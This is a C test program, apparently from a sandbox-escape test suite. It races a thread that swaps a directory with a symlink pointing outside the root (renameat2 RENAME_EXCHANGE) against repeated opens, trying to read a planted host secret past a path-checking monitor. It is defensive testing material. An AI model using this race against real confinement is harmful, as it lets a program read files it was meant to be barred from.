/* A symlink swapped with a directory by a second thread while the main
 * thread opens through it. "d" is a directory holding a file named as the
 * secret; "s" a symlink to the secret's directory far above the root. The
 * thread exchanges them (renameat2 RENAME_EXCHANGE) in a tight loop. A
 * monitor that checks "d/NAME" while d is the directory and lets the kernel
 * open it a moment later, when d is the link, reads the host's secret. The
 * kernel resolves the link inside the root, reaching the decoy. */
#include "escape.h"

#include <pthread.h>
#include <stdatomic.h>

#define ITERATIONS 20000
#define SECONDS 4.0

static atomic_int stop;
static atomic_long swaps;
static int exchange_errno;

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		if (renameat2(AT_FDCWD, "d", AT_FDCWD, "s", RENAME_EXCHANGE) < 0) {
			exchange_errno = errno;
			break;
		}
		atomic_fetch_add_explicit(&swaps, 1, memory_order_relaxed);
	}
	return NULL;
}

/* Without RENAME_EXCHANGE: the same swap in four renames. */
static void *swapper_renames(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		if (rename("d", "t") < 0 || rename("s", "d") < 0 || rename("d", "s") < 0 ||
		    rename("t", "d") < 0)
			break;
		atomic_fetch_add_explicit(&swaps, 1, memory_order_relaxed);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	struct esc e;
	char path[PATH_MAX], file[PATH_MAX];
	long inside = 0, decoy = 0, failed = 0, i;
	pthread_t t;
	double end;

	esc_init(&e, "symswap", argc, argv);
	esc_fmt(&e, file, sizeof(file), "d/%s", e.base);
	if (mkdir("d", 0755) < 0 || symlink(e.updir, "s") < 0)
		esc_die(&e, "mkdir/symlink");
	esc_write(&e, file, "inside\n", 0644);
	esc_fmt(&e, path, sizeof(path), "%s", file);
	if (renameat2(AT_FDCWD, "d", AT_FDCWD, "s", RENAME_EXCHANGE) == 0 &&
	    renameat2(AT_FDCWD, "d", AT_FDCWD, "s", RENAME_EXCHANGE) == 0) {
		pthread_create(&t, NULL, swapper, NULL);
	} else {
		esc_note(&e, "RENAME_EXCHANGE: %s, swapping with four renames", esc_errname(errno));
		pthread_create(&t, NULL, swapper_renames, NULL);
	}
	end = esc_now() + SECONDS;
	for (i = 0; i < ITERATIONS && !e.escaped && esc_now() < end; i++) {
		char buf[256];
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t n;

		if (fd < 0) {
			failed++;
			continue;
		}
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		buf[n > 0 ? n : 0] = '\0';
		switch (esc_classify(&e, buf)) {
		case 2:
			esc_escaped(&e, "open(d/NAME) while d was swapped");
			break;
		case 1:
			decoy++;
			break;
		default:
			inside++;
		}
		if (i % 16 == 0) {
			struct stat st;

			if (stat(path, &st) == 0 && st.st_size == e.secret_size)
				esc_escaped(&e, "stat(d/NAME) while d was swapped");
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	esc_note(&e, "%ld opens: %ld the directory's file, %ld the decoy, %ld failed; %ld swaps%s%s",
		 i, inside, decoy, failed, atomic_load(&swaps), exchange_errno ? ", exchange: " : "",
		 exchange_errno ? esc_errname(exchange_errno) : "");
	return esc_finish(&e);
}
